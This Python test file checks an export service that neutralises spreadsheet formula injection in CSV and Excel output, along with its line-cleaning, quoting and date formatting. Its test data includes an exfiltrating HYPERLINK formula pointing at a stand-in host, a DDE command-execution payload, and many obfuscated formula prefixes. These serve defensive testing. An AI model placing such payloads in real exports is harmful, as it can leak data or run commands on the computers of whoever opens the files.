"""Cells that a spreadsheet shows and never carries out."""

from __future__ import annotations

import io
from datetime import date

import pytest

from app.services.export_files import csv_lines, write_xlsx
from app.services.safe_cells import in_csv, one_line
from tests.exported import xlsx_cells

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1;"Klik")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n\t =1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00ad=1+1",
    "\x00=1+1",
    "\x1f=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff201+1",
    "\ufe661+1",
    "+45 33 12 34 56",
    '"=1+1',
    '"\t=1+1',
]


@pytest.mark.rule("R71")
@pytest.mark.parametrize("text", HOSTILE)
def test_what_would_begin_a_formula_has_an_apostrophe_before_it(text: str) -> None:
    assert in_csv(text) == "'" + one_line(text)


@pytest.mark.rule("R71")
@pytest.mark.parametrize(
    "text", ["Fyret, =1+1", "Fyret;=1+1", 'a,"=1+1', "a | @x", "a;\u00a0+1", "a,\uff1d1", "a,\t-1"]
)
def test_what_would_begin_one_behind_another_separator_has_one_too(text: str) -> None:
    """Excel in English opens the file by commas."""
    cell = in_csv(text)
    assert "'" in cell
    assert cell.replace("'", "") == one_line(text)


@pytest.mark.rule("R71")
@pytest.mark.parametrize(
    "text",
    ["Søfartsstyrelsen", "a=b", "Nævn - og råd", "kim@fyret.example", "'=1", "33 12 34 56", "", "👩‍👩‍👧 Ærø", "1-2"],
)
def test_other_text_stands_as_it_is(text: str) -> None:
    assert in_csv(text) == text


@pytest.mark.rule("R71")
def test_a_cell_is_one_line_without_control_characters() -> None:
    assert one_line("Havne\r\nvej\t1") == "Havne vej 1"
    assert one_line("a\x00b\x08c\x7fd\x9fe\ud800f\ufffeg\uffffh") == "abcdefgh"
    assert one_line("a\u2028b\x85c") == "a b c"


@pytest.mark.rule("R71")
@pytest.mark.parametrize(
    "text", [*HOSTILE, "{=1+1}", "_x003D_1+1", "https://evil.example", "mailto:a@b.example", "007"]
)
def test_in_excel_every_text_is_text(text: str, tmp_path: object) -> None:
    file = io.BytesIO()
    write_xlsx(file, tmp_path, "Ark", [("Navn", 10)], [[text]])  # type: ignore[arg-type]
    shown = one_line(text).replace("_x003D_", "_x005F_x003D_")  # what Excel would else read as a sign by its number
    assert xlsx_cells(file.getvalue()) == [[("s", "Navn")], [("s", shown)]]


@pytest.mark.rule("R71")
def test_days_are_days_in_excel_and_iso_in_csv(tmp_path: object) -> None:
    file = io.BytesIO()
    write_xlsx(file, tmp_path, "Ark", [("Dag", 10), ("Tal", 9), ("Intet", 9)], [[date(2026, 11, 25), 3, None]])  # type: ignore[arg-type]
    assert xlsx_cells(file.getvalue())[1] == [("n", "46351"), ("n", "3")]  # days since 1900, as Excel counts
    lines = b"".join(csv_lines(["Dag", "Tal", "Intet"], [[date(2026, 11, 25), 3, None]]))
    assert lines.decode() == '\ufeff"Dag";"Tal";"Intet"\r\n"2026-11-25";"3";""\r\n'


@pytest.mark.rule("R71")
def test_quotes_and_separators_stay_in_their_cell() -> None:
    lines = b"".join(csv_lines(["a"], [['Nævnet "Fyr; og Havn"\r\nVest 🌊']]))
    assert lines.decode().splitlines()[1] == '"Nævnet ""Fyr; og Havn"" Vest 🌊"'
